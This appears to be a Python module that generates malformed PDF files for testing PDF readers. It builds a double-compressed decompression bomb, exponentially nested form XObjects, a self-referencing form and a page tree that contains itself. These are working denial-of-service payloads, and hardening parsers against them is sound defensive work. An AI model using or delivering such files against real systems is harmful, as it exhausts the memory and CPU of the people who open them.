"""PDFs made to do harm: small files that want gigabytes, or hours."""

import zlib

HEAD = (b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 5 0 R"
    b"/Resources<</Font<</F 4 0 R>>/XObject<</X 6 0 R>>>>>>"
)


def made(content: bytes, *forms: bytes, filters: str = "/FlateDecode") -> bytes:
    """A sound PDF of one page, which shows what its packed content says; `forms` are what it may show besides."""
    stream = f"<</Length {len(content)}/Filter[{filters}]>>stream\n".encode() + content + b"\nendstream"
    out, at = b"%PDF-1.4\n", []
    for number, part in enumerate((*HEAD, PAGE, FONT, stream, *forms), 1):
        at.append(len(out))
        out += b"%d 0 obj\n" % number + part + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % offset for offset in at)
    count, start = len(at) + 1, len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % count + table
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (count, start)


def form(shows: bytes, next_one: int) -> bytes:
    """A part that a page may show; `/X Do` in it shows the object of the next number."""
    head = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 4 0 R>>/XObject<</X %d 0 R>>>>" % next_one
    return head + b"/Length %d>>stream\n" % len(shows) + shows + b"\nendstream"


TEN_TIMES = zlib.compress(b"/X Do " * 10)
GIGABYTES = made(zlib.compress(zlib.compress(bytes(600_000_000), 1), 9), filters="/FlateDecode/FlateDecode")
HOURS = made(TEN_TIMES, *(form(b"/X Do " * 10, 7 + n) for n in range(8)), form(b"BT /F 1 Tf (x) Tj ET", 4))
ITSELF = made(TEN_TIMES, form(b"/X Do /X Do ", 6))
ITS_OWN_CHILD = made(TEN_TIMES).replace(b"/Kids[3 0 R]/Count 1", b"/Kids[2 0 R]/Count 9")
